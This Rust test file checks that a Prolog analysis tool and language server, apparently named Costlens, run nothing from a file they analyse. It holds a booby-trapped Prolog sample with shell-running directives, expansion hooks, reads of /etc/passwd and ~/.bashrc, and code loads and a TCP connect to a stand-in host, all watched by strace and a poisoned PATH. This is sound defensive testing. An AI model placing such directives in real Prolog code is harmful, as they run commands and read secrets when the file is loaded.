//! A file with everything that a Prolog system runs when loading one: Costlens starts no process, opens no connection, writes nothing but
//! its own files in the user's cache folder, and reads only these and Prolog files: sources, and the header of an installed SWI-Prolog, which
//! has its version.
//!
//! System calls are watched by `strace` if it is available and permitted; in any case, marker files and a poisoned `PATH` show that no command ran.
#![cfg(target_os = "linux")]

use crate::binary::in_empty_home;
use crate::client;

use std::path::Path;
use std::process::Command;

use client::Client;
use serde_json::json;
use tempfile::TempDir;

/// Every goal here would leave a marker if it were run; `DIR` is the folder.
const EVIL: &str = r#"#!/usr/bin/env swipl
:- module(evil, [p/2]).
:- shell('touch DIR/marker1').
:- initialization(shell('touch DIR/marker2')).
:- initialization(shell('touch DIR/marker3'), main).
:- initialization(shell('touch DIR/marker4'), now).
:- open('DIR/marker5', write, S), close(S).
:- if((shell('touch DIR/marker6'), open('DIR/marker7', write, S), close(S))).
a.
:- elif(process_create(path(touch), ['DIR/marker8'], [])).
:- endif.
:- use_foreign_library(foreign('DIR/evil.so')).
:- use_foreign_library('/DIR/evil.so').
:- load_foreign_library('DIR/evil').
:- use_module(library('../../../../../../etc/passwd')).
:- use_module(library(http/http_open)).
:- use_module('/etc/passwd').
:- use_module('https://example.invalid/evil.pl').
:- use_module(url('https://example.invalid/evil.pl')).
:- use_module(library(evil_library_that_is_nowhere)).
:- consult(pipe('touch DIR/marker9')).
:- consult('https://example.invalid/evil.pl').
:- ['/etc/hosts', '|touch DIR/marker10'].
:- include('DIR/secret.txt').
:- include('../../../../../../../../etc/passwd').
:- include('DIR/fifo.pl').
:- load_files('DIR/secret', [stream(S)]).
:- ensure_loaded('$HOME/.bashrc').
:- ensure_loaded('~/.bashrc').
:- set_prolog_flag(toplevel_goal, shell('touch DIR/marker11')).
:- set_prolog_flag(double_quotes, codes).
:- use_module(here).
user:file_search_path(foreign, 'DIR').
user:file_search_path(library, X) :- shell('touch DIR/marker12'), X = 'DIR'.
user:portray(_) :- shell('touch DIR/marker13').
user:prolog_load_file(_, _) :- shell('touch DIR/marker14').
term_expansion(X, X) :- shell('touch DIR/marker15').
goal_expansion(_, _) :- shell('touch DIR/marker16').
user:term_expansion(_, _, _, _) :- open('DIR/marker17', write, S), close(S).
system:goal_expansion(_, _) :- tcp_connect('example.invalid':80, _, []).
q(X) :- X = {|html||<p>|}.
:- quasi_quotation_syntax(html).
html(_, _, _, _) :- shell('touch DIR/marker18').
%! p(+Xs:list, -Ys:list) is det.
p(Xs, Ys) :- maplist([X,Y]>>(shell('touch DIR/marker19'), Y = X), Xs, Ys).
:- initialization main.
main :- p([1], _), shell('touch DIR/marker20'), halt.
:- main.
"#;

const HERE: &str = ":- module(here, []).\n:- initialization(shell('touch DIR/marker21')).\n:- shell('touch DIR/marker22').\n";

struct Trap {
    folder: TempDir,
}

impl Trap {
    fn new() -> Self {
        let folder = TempDir::new().unwrap();
        let dir = folder.path().to_str().unwrap().to_owned();
        let write = |name: &str, text: &str| {
            std::fs::write(folder.path().join(name), text.replace("DIR", &dir)).unwrap();
        };
        write("evil.pl", EVIL);
        write("here.pl", HERE);
        write("secret.txt", "secret.\n");
        write("secret", "secret.\n");
        write("evil.so", "no library");
        Command::new("mkfifo")
            .arg(folder.path().join("fifo.pl"))
            .status()
            .unwrap();
        // Any program started by name is this one.
        std::fs::create_dir(folder.path().join("bin")).unwrap();
        for name in ["swipl", "touch", "sh", "git", "cc"] {
            let script = folder.path().join("bin").join(name);
            std::fs::write(&script, format!("#!/bin/sh\n: > {dir}/marker0\n")).unwrap();
            Command::new("chmod")
                .arg("+x")
                .arg(&script)
                .status()
                .unwrap();
        }
        Trap { folder }
    }

    fn path(&self) -> &Path {
        self.folder.path()
    }

    /// Returns the command, under `strace` if possible.
    fn command(&self, arguments: &[&str]) -> Command {
        let binary = env!("CARGO_BIN_EXE_costlens");
        let log = self.path().join("strace.log");
        let folders = std::env::var_os("PATH").unwrap_or_default();
        let mut places = std::env::split_paths(&folders).map(|f| f.join("strace"));
        let strace = places.find(|place| place.is_file()).filter(|strace| {
            let mut trial = Command::new(strace);
            trial.args(["-o", "/dev/null", "true"]);
            trial.output().is_ok_and(|o| o.status.success())
        });
        let mut command = if let Some(strace) = strace {
            let mut command = Command::new(strace);
            command.args(["-f", "-qq", "-s", "4096", "-o"]).arg(log);
            command.args(["-e", "trace=process,network,file", binary]);
            command
        } else {
            Command::new(binary)
        };
        in_empty_home(&mut command);
        command.args(arguments).current_dir(self.path());
        command.env("PATH", self.path().join("bin"));
        command
    }

    /// Asserts that nothing was left behind, and that nothing was done on the way.
    fn check(&self) {
        for entry in std::fs::read_dir(self.path()).unwrap() {
            let name = entry.unwrap().file_name().into_string().unwrap();
            assert!(!name.starts_with("marker"), "{name}");
        }
        let Ok(log) = std::fs::read_to_string(self.path().join("strace.log")) else {
            return;
        };
        let calls = |name: &str| {
            log.lines()
                .filter(|l| l.contains(&format!("{name}(")))
                .count()
        };
        assert!(calls("openat") > 0, "nothing was watched");
        assert_eq!(
            calls("execve") + calls("execveat"),
            1,
            "a process was started"
        );
        for line in log.lines() {
            self.check_line(line);
        }
    }

    fn check_line(&self, line: &str) {
        let Some((before, rest)) = line.split_once('(') else {
            return;
        };
        let call = before.rsplit(' ').next().unwrap();
        match call {
            "fork" | "vfork" => panic!("a process: {line}"),
            "clone" | "clone3" => assert!(rest.contains("CLONE_THREAD"), "a process: {line}"),
            // Threads of the server wake each other through a pair of sockets of its own.
            "socketpair" => assert!(rest.starts_with("AF_UNIX"), "{line}"),
            "socket" | "connect" | "bind" | "listen" | "sendto" | "sendmsg" => {
                assert!(call.starts_with("send"), "a connection: {line}");
            }
            "unlink" | "unlinkat" | "rename" | "renameat" | "renameat2" | "mkdir" | "mkdirat"
            | "rmdir" | "creat" | "truncate" | "chmod" | "fchmodat" | "link" | "linkat"
            | "symlink" | "symlinkat" => {
                let path = rest.split('"').nth(1).unwrap_or_default();
                assert!(is_own(path), "a file was changed: {line}");
            }
            "open" | "openat" | "openat2" => self.check_open(line, rest),
            _ => {}
        }
    }

    fn check_open(&self, line: &str, rest: &str) {
        let path = rest.split('"').nth(1).unwrap_or_default();
        let writes = ["O_WRONLY", "O_RDWR", "O_CREAT", "O_TRUNC"];
        if writes.iter().any(|w| rest.contains(w)) {
            let is_device = path.starts_with("/dev/");
            assert!(is_device || is_own(path), "written: {line}");
        }
        if rest.contains("ENOENT") || rest.contains("O_DIRECTORY") {
            return;
        }
        let is_source = [".pl", ".prolog", ".pro", ".plt"]
            .iter()
            .any(|e| path.ends_with(e));
        let of_system = path.starts_with("/proc/")
            || path.starts_with("/sys/")
            || path.starts_with("/dev/")
            || path.starts_with("/etc/ld.so")
            || path.contains(".so")
                && ["/lib", "/usr/lib", "/usr/local/lib"]
                    .iter()
                    .any(|l| path.starts_with(l));
        // The only file with the version of an installed SWI-Prolog.
        let is_version =
            path.ends_with("/include/SWI-Prolog.h") && !Path::new(path).starts_with(self.path());
        let is_known = is_source || of_system || is_version || is_own(path);
        assert!(is_known, "read: {line}");
        assert!(
            !path.ends_with("evil.so") && !path.ends_with("fifo.pl"),
            "read: {line}"
        );
    }
}

/// Returns whether a path is that of Costlens's folder in the cache folder, or below it.
fn is_own(path: &str) -> bool {
    path.ends_with("/cache")
        || path.ends_with("/cache/costlens")
        || path.contains("/cache/costlens/")
}

#[test]
fn the_command_line_runs_nothing_of_a_file() {
    let trap = Trap::new();
    let out = trap.command(&["bounds", "evil.pl"]).output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("p(+Xs:list(any)"), "{out:?}");
    // The hooks make everything unknown, and are reported as the reason.
    assert!(text.contains("_expansion/"), "{text}");
    trap.check();
}

#[test]
fn the_server_runs_nothing_of_a_document() {
    let trap = Trap::new();
    let mut client = Client::spawned(trap.command(&["lsp", "--stdio"]));
    let root = format!("file://{}", trap.path().display());
    client.request(
        "initialize",
        json!({"processId": null, "rootUri": root, "capabilities": {},
            "workspaceFolders": [{"uri": root, "name": "trap"}]}),
    );
    client.notify("initialized", json!({}));
    let uri = format!("{root}/evil.pl");
    let text = std::fs::read_to_string(trap.path().join("evil.pl")).unwrap();
    client.open(&uri, &text);
    client.hints(&uri);
    client.diagnostics(&uri, None);
    let at = text.lines().position(|l| l.starts_with("p(Xs")).unwrap();
    let position = json!({"textDocument": {"uri": uri}, "position": {"line": at, "character": 0}});
    for method in ["textDocument/hover", "textDocument/definition"] {
        client.request(method, position.clone());
    }
    client.request(
        "textDocument/documentSymbol",
        json!({"textDocument": {"uri": uri}}),
    );
    assert_eq!(client.end(), 0);
    trap.check();
}
